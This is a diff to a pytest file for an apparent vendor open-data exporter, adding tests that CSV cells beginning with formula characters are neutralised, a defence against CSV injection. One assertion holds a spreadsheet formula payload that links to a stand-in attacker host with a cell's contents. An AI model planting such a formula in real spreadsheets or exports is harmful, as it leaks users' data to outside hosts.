@@ -11,6 +11,7 @@ import re
 from pathlib import Path
 
 import icalendar
+import pytest
 import yaml
 from conftest import FIXTURE, GOLDEN_DAY
 
@@ -68,6 +69,10 @@ def test_json_holds_every_vendor_with_products_and_the_licence() -> None:
     assert kue["rt"] is None  # JSON says "not given" as null, not ""
 
 
+# What spreadsheets run as a formula when a cell starts with it (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def test_formula_cells_are_neutralised_but_stay_readable(content: Path) -> None:
     path = content / "vendors" / "amplang-uji.yml"
     vendor = yaml.safe_load(path.read_text("utf-8"))
@@ -75,24 +80,33 @@ def test_formula_cells_are_neutralised_but_stay_readable(content: Path) -> None:
     vendor["owner"] = "+1+2"
     vendor["address"] = "@SUM(1+1)"
     vendor["products"][0]["name"] = "-2+3"
-    vendor["products"][0]["description"] = "\tTab di depan"
+    vendor["products"][0]["unit"] = "=1+1 bungkus"
+    vendor["products"][0]["description"] = "\t=Tab di depan"
     path.write_text(yaml.safe_dump(vendor, allow_unicode=True), "utf-8")
     files = fixture_files(content)
-    row = next(r for r in read_csv(files["data/usaha.csv"]) if r["id_usaha"] == "amplang-uji")
-    assert row["nama_usaha"] == "'" + vendor["name"]
+    vendors, products = read_csv(files["data/usaha.csv"]), read_csv(files["data/produk.csv"])
+    row = next(r for r in vendors if r["id_usaha"] == "amplang-uji")
+    assert row["nama_usaha"] == '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
     assert (row["nama_pemilik"], row["alamat"]) == ("'+1+2", "'@SUM(1+1)")
-    product = read_csv(files["data/produk.csv"])[0]
-    assert product["nama_produk"] == "'-2+3" and product["nama_usaha"] == "'" + vendor["name"]
+    product = products[0]
+    assert (product["nama_produk"], product["satuan"]) == ("'-2+3", "'=1+1 bungkus")
+    assert product["nama_usaha"] == row["nama_usaha"]
+    assert product["keterangan"] == "'=Tab di depan"  # the tab is trimmed, the "=" is not
     # Only the first character matters; ordinary text and numbers are left alone.
-    assert product["harga"] == "25000"
-    assert all(
-        not c.startswith(opendata._FORMULA_START)
-        for r in read_csv(files["data/usaha.csv"])
-        for c in r.values()
-    )
+    assert (product["harga"], row["kelurahan"]) == ("25000", "Contoh Ilir")
+    assert not [c for r in vendors + products for c in r.values() if c[:1] in FORMULA_STARTS]
     # JSON is not opened by spreadsheets: the data stays exactly as written.
     data = json.loads(files["data/usaha.json"])
     assert vendor["name"] in [v["nama_usaha"] for v in data["usaha"]]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_every_formula_start_becomes_text(start: str) -> None:
+    """Tabs and carriage returns never come from content (values are trimmed), but a cell
+    is safe whatever reaches it."""
+    assert opendata.cell(start + "1+1") == "'" + start + "1+1"
+    assert opendata.cell(["a", "b"]) == "a b" and opendata.cell([start + "a"]) == "'" + start + "a"
+    assert opendata.cell("1" + start + "1") == "1" + start + "1"
 
 
 def parse_calendar(text: str) -> icalendar.Calendar:
